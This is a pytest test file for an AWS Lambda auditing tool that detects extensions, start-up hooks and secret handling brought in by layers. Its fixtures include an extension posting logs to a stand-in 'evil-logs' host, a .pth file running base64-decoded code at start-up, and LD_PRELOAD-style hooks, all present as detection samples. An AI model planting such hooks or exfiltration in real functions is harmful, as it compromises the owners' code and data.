"""EXT-1, EXT-3..6, G-20: what runs beside or before the handler, with the layer that brings it."""

import hashlib
import io
import random
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lambdaudit.code.extensions import extensions_of
from lambdaudit.code.filesystem import FileSystem, Part, compose
from lambdaudit.model.code import Extension
from lambdaudit.model.functions import EnvironmentVariable
from lambdaudit.model.unknown import Unknown
from tests.code.zips import with_entries, zipped

FN = "arn:aws:lambda:eu-west-1:111122223333:function:orders"
LAYER = "arn:aws:lambda:eu-west-1:999988887777:layer:agent:4"
REGISTER = "http://${AWS_LAMBDA_RUNTIME_API}/2020-01-01/extension/register"


def tree(task: dict[str, bytes | str] | None = None, opt: dict[str, bytes | str] | bytes | None = None) -> FileSystem:
    layer = opt if isinstance(opt, bytes) else zipped(opt or {})
    return compose(Part(FN, io.BytesIO(zipped(task or {"app.py": "x"}))), [Part(LAYER, io.BytesIO(layer))])


def env(**values: str | None) -> list[EnvironmentVariable]:
    return [EnvironmentVariable(name=n, length=20 if v is None else len(v), value=v) for n, v in values.items()]


def found(files: FileSystem, runtime: str | None = "python3.13", **values: str | None) -> list[Extension]:
    return list(extensions_of(files, runtime=runtime, environment=env(**values)))


def executable(name: str, data: str, mode: int = 0o755) -> tuple[zipfile.ZipInfo, bytes]:
    info = zipfile.ZipInfo(name)
    info.create_system = 3
    info.external_attr = (0o100000 | mode) << 16
    return info, data.encode()


def test_ext_1_an_external_extension_is_told_with_hash_size_language_and_layer() -> None:
    script = f"#!/bin/bash\ncurl {REGISTER}\n"
    opt = with_entries([executable("extensions/agent", script), executable("extensions/off", script, 0o644)])
    agent, off = found(tree(opt=opt))
    modeless = with_entries([(zipfile.ZipInfo("extensions/agent"), script.encode())]).replace(
        b"PK\x01\x02\x14\x03", b"PK\x01\x02\x14\x00"
    )
    assert isinstance(found(tree(opt=modeless))[0].executable, Unknown)
    assert (agent.name, agent.path, agent.kind, agent.origin) == ("agent", "/opt/extensions/agent", "external-extension", LAYER)
    assert (agent.sha256, agent.size) == (hashlib.sha256(script.encode()).hexdigest(), len(script))
    assert (agent.language, agent.executable, agent.uses) == ("shell", True, ("extensions-api",))
    assert off.executable is False


def test_ext_4_subscribers_and_their_hosts_are_seen_also_behind_a_starting_script() -> None:
    opt: dict[str, bytes | str] = {
        "extensions/ship": "#!/bin/sh\nexec node /opt/${LAMBDA_EXTENSION_NAME}/index.js\n",
        "ship/index.js": "put('/2022-07-01/telemetry'); put('/2020-08-15/logs'); post('https://collect.evil-logs.io/v1')",
        "ship/README.js": "// see https://docs.aws.amazon.com/lambda/",
        "other/index.js": "https://not-started.example.net.evil.io/",
    }
    (ship,) = found(tree(opt=opt))
    assert ship.uses == ("logs", "telemetry")
    assert ship.hosts == ("collect.evil-logs.io",)


def test_g_20_hooks_are_told_with_the_layer_that_brings_their_file() -> None:
    opt: dict[str, bytes | str] = {
        "agent/otel.jar": zipped({"META-INF/MANIFEST.MF": "x"}),
        "importtime_wrapper": "#!/bin/bash\nexec python3 -X importtime $@",
    }
    java, wrapper = found(
        tree(opt=opt),
        runtime="java21",
        JAVA_TOOL_OPTIONS="-javaagent:/opt/agent/otel.jar=debug -XX:TieredStopAtLevel=1",
        AWS_LAMBDA_EXEC_WRAPPER="/opt/importtime_wrapper",
    )
    assert (java.kind, java.path, java.variable, java.origin, java.exists) == (
        "start-up-hook", "/opt/agent/otel.jar", "JAVA_TOOL_OPTIONS", LAYER, True,
    )  # fmt: skip
    assert (wrapper.kind, wrapper.variable, wrapper.language, wrapper.origin) == (
        "wrapper",
        "AWS_LAMBDA_EXEC_WRAPPER",
        "shell",
        LAYER,
    )


@pytest.mark.parametrize(
    ("variable", "value", "path", "exists"),
    [
        ("LD_PRELOAD", "/opt/lib/h.so", "/opt/lib/h.so", True),
        ("LD_PRELOAD", "gone.so", "/var/task/gone.so", False),
        ("LD_LIBRARY_PATH", "/opt/lib", "/opt/lib", True),
        ("NODE_OPTIONS", "--enable-source-maps --require ./hook", "/var/task/hook.js", True),
        ("NODE_OPTIONS", "--import=file:///opt/gone.mjs", "/opt/gone.mjs", False),
        ("NODE_OPTIONS", "-r tracer", "/opt/nodejs/node_modules/tracer/package.json", True),
        ("PYTHONPATH", "/opt/none", "/opt/none", False),
        ("PYTHONSTARTUP", "/opt/lib/h.so", "/opt/lib/h.so", True),
        ("DOTNET_STARTUP_HOOKS", "/opt/Hook.dll", "/opt/Hook.dll", False),
        ("RUBYOPT", "-W0 -r/opt/gone", "/opt/gone", False),
        ("PERL5OPT", "-MDevel::Hook", "/var/task/Devel/Hook.pm", False),
        ("BASH_ENV", "/tmp/x.sh", "/tmp/x.sh", False),
        ("JAVA_TOOL_OPTIONS", "-agentpath:/opt/lib/h.so=x", "/opt/lib/h.so", True),
        ("CORECLR_PROFILER_PATH", "/opt/lib/h.so", "/opt/lib/h.so", True),
        ("AWS_LAMBDA_EXEC_WRAPPER", None, "", False),
    ],
)
def test_ext_3_variables_and_the_file_they_point_at(variable: str, value: str | None, path: str, exists: bool) -> None:
    files = tree(
        {"hook.js": "1"},
        {"lib/h.so": b"\x7fELF", "nodejs/node_modules/tracer/package.json": "{}", "extensions.txt": "no extension"},
    )
    (hook,) = found(files, runtime="nodejs24.x", **{variable: value})
    assert (hook.variable, hook.path, hook.exists, hook.origin) == (variable, path, exists, files.origin(path) or hook.origin)


@pytest.mark.parametrize("variable", ["NODE_OPTIONS", "JAVA_TOOL_OPTIONS", "RUBYOPT", "DB_HOST"])
def test_options_that_load_nothing_give_nothing(variable: str) -> None:
    assert found(tree(), **{variable: "--max-old-space-size=512 -Xmx1g"}) == []


def test_python_start_modules_and_pth_files() -> None:
    nspkg = "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'])"
    opt: dict[str, bytes | str] = {
        "python/sitecustomize.py": "x",
        "python/lib/python3.13/site-packages/evil.pth": "import base64;exec(base64.b64decode('eA=='))",
        "python/lib/python3.13/site-packages/ns-nspkg.pth": nspkg,
        "python/plain.pth": "../vendor\n# import nothing",
        "python/deep/sitecustomize.py": "not on the path",
    }
    hooks = found(tree(opt=opt))
    assert [hook.path for hook in hooks] == ["/opt/python/lib/python3.13/site-packages/evil.pth", "/opt/python/sitecustomize.py"]
    assert found(tree(opt=opt), runtime="nodejs24.x") == []


def test_bootstraps_internal_extensions_and_proxies_of_the_runtime_interface() -> None:
    task: dict[str, bytes | str] = {"bootstrap": "#!/bin/sh\nexport AWS_LAMBDA_RUNTIME_API=127.0.0.1:9009\nexec /opt/x/run"}
    opt: dict[str, bytes | str] = {"python/inner.py": f"requests.post('{REGISTER}')", "bootstrap": "#!/bin/sh"}
    bootstrap, inner = found(tree(task, opt), runtime="provided.al2023")
    assert (bootstrap.kind, bootstrap.path, bootstrap.origin, bootstrap.uses) == (
        "bootstrap",
        "/var/task/bootstrap",
        FN,
        ("runtime-proxy",),
    )
    assert (inner.kind, inner.path) == ("internal-extension", "/opt/python/inner.py")
    assert [e.kind for e in found(tree(task, opt))] == ["internal-extension"]


@pytest.mark.parametrize(
    ("code", "uses"),
    [
        (
            "import boto3, http.server\nsm.get_secret_value(SecretId='x')\nHTTPServer(('127.0.0.1', 8080), H)",
            ("secrets", "secrets-port"),
        ),
        (
            "sm.get_secret_value(SecretId='x')\nHTTPServer(('', 1), H)\nif h['X-Aws-Parameters-Secrets-Token'] != t: deny()",
            ("secrets", "secrets-port-with-token"),
        ),
        ("v = ssm.get_parameter(Name='x')\nopen('/tmp/cache', 'w').write(v)", ("secrets", "secrets-on-disk")),
        ("v = ssm.get_parameter(Name='x')\ncache[1] = v", ("secrets",)),
    ],
)
def test_ext_5_and_6_secret_ports_and_secrets_on_disk(code: str, uses: tuple[str, ...]) -> None:
    (extension,) = found(tree(opt={"extensions/secrets": f"#!/usr/bin/env python3\n{code}"}))
    assert extension.uses == uses


@pytest.mark.skipif(not shutil.which("gcc"), reason="no C compiler")
def test_a_compiled_program_is_recognised_by_its_texts(tmp_path: Path) -> None:
    source = tmp_path / "x.c"
    source.write_text('#include <stdio.h>\nint main(){puts("/2020-08-15/logs https://sink.evil-logs.io/x");return 0;}')
    subprocess.run(["gcc", "-o", tmp_path / "x", source], check=True)
    (extension,) = found(tree(opt={"extensions/x": (tmp_path / "x").read_bytes()}))
    assert (extension.language, extension.uses, extension.hosts) == ("native", ("logs",), ("sink.evil-logs.io",))


def test_texts_across_the_edges_of_pieces_are_found() -> None:
    noise = random.Random(3).randbytes(65536 - 8)
    (extension,) = found(tree(opt={"extensions/x": b"\x7fELF" + noise[4:] + b"/2022-07-01/telemetry" + noise}))
    assert extension.uses == ("telemetry",)


@given(st.binary(max_size=400), st.text(max_size=60))
@settings(max_examples=150, deadline=None)
def test_nothing_in_a_file_or_variable_raises(content: bytes, value: str) -> None:
    files = tree(
        {"sitecustomize.py": content, "a.pth": content}, {"extensions/x": b"#!/bin/sh\n/opt/" + content, "x/y.py": content}
    )
    for variable in ("NODE_OPTIONS", "JAVA_TOOL_OPTIONS", "RUBYOPT", "PYTHONPATH", "LD_PRELOAD", "PERL5OPT"):
        assert all(e.kind for e in found(files, None, **{variable: value}))
